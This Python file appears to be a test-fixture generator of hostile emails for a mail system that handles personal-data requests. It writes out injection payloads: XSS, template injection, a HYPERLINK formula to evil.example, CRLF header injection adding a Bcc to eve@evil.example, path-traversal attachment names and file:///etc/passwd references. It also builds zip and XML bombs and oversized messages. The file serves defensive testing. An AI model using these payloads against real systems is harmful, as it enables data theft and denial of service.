"""Mails that attack whoever opens, reads, answers, prints or stores them; none of them may do anything."""

from __future__ import annotations

import base64
import io
import random
import zipfile

ASK = "Bonjour,\n\nJe souhaite recevoir une copie de toutes les données personnelles que vous détenez sur moi.\n\nMerci"
STEERING = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f\u202egnp.exe\u202c\u2066x\u2069\u200b\ufeff"
"""What moves a terminal's cursor, names its window, turns the reading direction, or cannot be seen."""
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
TEMPLATE = "{{ 7*7 }}{% for x in range(10**9) %}x{% endfor %}{{ ''.__class__.__mro__ }}${7*7}#{7*7}"
FORMULA = '=HYPERLINK("http://evil.example","x")'


def plain(sender: str, text: str, subject: str = "Mes données", more: str = "") -> bytes:
    """A mail with whatever stands in its parts, unescaped; authenticated, so that it is answered."""
    domain = sender.rpartition("@")[2]
    head = (
        f"Authentication-Results: mx.astrallys.example; spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}\n"
        f"{more}From: <{sender}>\nTo: direction@astrallys.com\nSubject: {subject}\n"
        "Date: Mon, 23 Nov 2026 10:00:00 +0100\nMIME-Version: 1.0\n"
    )
    kind = "" if "Content-Type:" in more else "Content-Type: text/plain; charset=utf-8\n"
    return f"{head}{kind}\n{text}".encode("utf-8", "surrogateescape")


def _attached(sender: str, name: str, content: bytes, kind: str = "application/octet-stream") -> bytes:
    encoded = base64.encodebytes(content).decode()
    parts = (
        f'--B\nContent-Type: text/plain; charset=utf-8\n\n{ASK}\n--B\nContent-Type: {kind}; name="{name}"\n'
        f'Content-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n{encoded}\n--B--\n'
    )
    return plain(sender, parts, more='Content-Type: multipart/mixed; boundary="B"\n')


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../../../tmp/owned", b"\0" * 20_000_000)
    return out.getvalue()


def _nested(depth: int) -> str:
    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{level}"\n\n--b{level}\n' for level in range(depth))
    return f"{opened}Content-Type: text/plain\n\n{ASK}\n"


def _html(text: str) -> dict[str, str]:
    return {"more": "Content-Type: text/html; charset=utf-8\n", "text": text}


def mails(addresses: list[str]) -> dict[str, bytes]:
    """All of them, by what they try, each from an address of its own."""
    chance = random.Random(7)  # noqa: S311 -- the same each time
    sender = iter(addresses)
    slow = [*(sign * 200_000 for sign in "a=<@("), " " * 400_000 + "x", "é\u0301" * 90_000]
    levels, _, inner = _nested(500).partition("\n\n")
    mixed = 'Content-Type: multipart/mixed; boundary="B"\n'
    found = {
        "steers the terminal": plain(next(sender), f"{ASK}\n{STEERING}", f"Données {STEERING}"),
        "steers the terminal in an encoded subject": plain(
            next(sender), ASK, f"=?utf-8?b?{base64.b64encode(STEERING.encode()).decode()}?= données"
        ),
        "steers the terminal in the text alone": plain(next(sender), f"{STEERING}{ASK}{STEERING}"),
        "script in text and subject": plain(next(sender), f"{SCRIPT}\n{ASK}", SCRIPT),
        "script in HTML": plain(next(sender), **_html(f"<p>{ASK}</p>{SCRIPT}<style>*{{x:expression(1)}}</style>")),
        "hidden text": plain(next(sender), **_html(f'<p>Bonjour</p><p style="display:none">{ASK}</p>')),
        "a template": plain(next(sender), f"{TEMPLATE}\n{ASK}", TEMPLATE),
        "a formula": plain(next(sender), f"{FORMULA}\n{ASK}", FORMULA),
        "headers in the subject": plain(
            next(sender), ASK, "=?utf-8?q?x=0D=0ABcc:_eve@evil.example=0D=0A=0D=0Aowned?="
        ),
        "headers in the Message-ID": plain(
            next(sender), ASK, more="Message-ID: <a@b>\r\n\tBcc: eve@evil.example\nReferences: <x@y>\x00<z\x1b[2J@y>\n"
        ),
        "headers in the name": plain(next(sender), ASK).replace(
            b"From: <", b"From: =?utf-8?q?Eve=0D=0ABcc:_eve@evil.example?= <"
        ),
        "a path as file name": _attached(next(sender), "../../../../../../tmp/owned.txt", b"owned"),
        "another path as file name": _attached(next(sender), "C:\\\\Windows\\\\owned\x1b[2J.exe", b"MZ"),
        "a device as file name": _attached(next(sender), "/dev/stdout\u202efdp.exe", b"owned"),
        "a zip bomb": _attached(next(sender), "photos.zip", _zip_bomb(), "application/zip"),
        "an XML bomb": _attached(
            next(sender), "x.xml", b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 9999 + b'"><!ENTITY b "&a;&a;">]><x>&b;</x>'
        ),
        "MIME levels": plain(next(sender), inner, more=f"{levels}\n"),
        "MIME parts": plain(next(sender), "--B\n\nx\n" * 20_000 + "--B--\n", more=mixed),
        "a hundred thousand headers": plain(next(sender), ASK, more="".join(f"X-{n}: x\n" for n in range(100_000))),
        "one header of ten megabytes": plain(next(sender), ASK, more="X-Long: " + "x" * 10_000_000 + "\n"),
        "a hundred thousand recipients": plain(next(sender), ASK, more="Cc: " + "a@b.example, " * 100_000 + "\n"),
        "NUL and controls": plain(next(sender), f"{ASK}\0\1\2\3\x1b\0", "Donn\0ées"),
        "no line ends": plain(next(sender), ASK.replace("\n", " ") * 2000),
        "lone surrogates and broken UTF-8": plain(next(sender), f"{ASK}\udcff\udcfe\udc80"),
        "an unknown charset": plain(next(sender), ASK, more="Content-Type: text/plain; charset=../../etc/passwd\n"),
        "UTF-7": plain(next(sender), "+ADw-script+AD4-" + ASK, more="Content-Type: text/plain; charset=utf-7\n"),
        "an external body": plain(
            next(sender), "x", more='Content-Type: message/external-body; access-type=URL; URL="file:///etc/passwd"\n'
        ),
        "rubbish": chance.randbytes(200_000),
        "an empty mail": b"\n",
    }  # fmt: skip
    return found | {f"a slow text, {text[:1]!r}": plain(next(sender), f"{ASK}\n{text}") for text in slow}
